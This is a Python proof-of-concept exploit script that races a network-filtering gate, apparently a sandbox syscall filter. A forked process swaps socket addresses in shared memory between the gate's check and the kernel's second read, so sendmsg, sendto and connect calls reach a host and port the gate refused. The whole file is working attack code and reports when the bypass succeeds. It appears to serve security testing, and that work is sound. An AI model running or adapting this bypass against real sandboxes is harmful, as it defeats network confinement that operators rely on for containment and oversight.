# The gate makes an allowed IP call itself with the address it judged, but it
# passed two kinds of call back to the kernel, which reads the caller's memory
# again: a sendmsg without a name (a connected UDP socket) and a call whose
# address is a Unix one (on an IP socket, where the kernel would fail it). A
# process sharing the page swaps in HOST:PORT between the two reads.
# netrace2.py MODE SECONDS HOST PORT:
#   noname    sendmsg on a UDP socket connected to 127.0.0.1: msg_name goes
#             from NULL to HOST:PORT and back.
#   unixname  sendto on a UDP socket: the 16 address bytes go from an abstract
#             Unix name to HOST:PORT and back.
#   unixconn  connect on a TCP socket, the same swap (won: not refused).
# Prints "sent N" (datagrams the kernel took) and how many reached 127.0.0.1.
import ctypes, errno, mmap, os, socket, struct, sys, time
libc = ctypes.CDLL(None, use_errno=True)
mode, seconds, host, port = sys.argv[1], float(sys.argv[2]), sys.argv[3], int(sys.argv[4])

bad = struct.pack("<HH4s8x", socket.AF_INET, socket.htons(port), socket.inet_aton(host))
unix = struct.pack("<H", socket.AF_UNIX) + b"\0escort-red-xy"
assert len(unix) == 16
mine = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
mine.bind(("127.0.0.1", 0))
mine.setblocking(False)
m = mmap.mmap(-1, 4096)
base = ctypes.addressof(ctypes.c_char.from_buffer(m))
m[64:80] = bad if mode == "noname" else unix
payload = b"swapped-datagram\n"
buf = ctypes.create_string_buffer(payload)


class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]


iov = iovec(ctypes.cast(buf, ctypes.c_void_p), len(payload))
# struct msghdr at offset 0 of the shared page: name, namelen, iov, iovlen, control...
hdr_name_null = struct.pack("<QI4x", 0, 0)
hdr_name_bad = struct.pack("<QI4x", base + 64, 16)
m[0:56] = hdr_name_null + struct.pack("<QQQQi4x", ctypes.addressof(iov), 1, 0, 0, 0)

child = os.fork()
if child == 0:
    while True:
        if mode == "noname":
            m[0:16] = hdr_name_null
            for _ in range(1000): pass
            m[0:16] = hdr_name_bad
            for _ in range(1000): pass
        else:
            m[64:80] = unix
            for _ in range(1000): pass
            m[64:80] = bad
            for _ in range(1000): pass

sent = tries = 0
won = None
deadline = time.time() + seconds
while time.time() < deadline and won is None:
    tries += 1
    if mode == "unixconn":
        s = socket.socket()
        s.setblocking(False)
        r, e = libc.connect(s.fileno(), ctypes.c_void_p(base + 64), 16), ctypes.get_errno()
        if r == 0 or e in (errno.EINPROGRESS, errno.ENETUNREACH, errno.EHOSTUNREACH,
                           errno.ECONNREFUSED):
            won = "connect to the refused address: " + (errno.errorcode.get(e, "0") if r else "0")
        s.close()
        continue
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    if mode == "noname":
        s.connect(mine.getsockname())
        n = libc.sendmsg(s.fileno(), ctypes.c_void_p(base), 0)
    else:
        n = libc.sendto(s.fileno(), buf, len(payload), 0, ctypes.c_void_p(base + 64), 16)
    if n > 0:
        sent += 1
    s.close()
os.kill(child, 9); os.waitpid(child, 0)
arrived = 0
try:
    while True:
        mine.recv(100)
        arrived += 1
except BlockingIOError:
    pass
if mode == "unixconn":
    print(f"won {won}" if won else f"lost after {tries} tries", flush=True)
else:
    print(f"sent {sent} arrived here {arrived} after {tries} tries", flush=True)
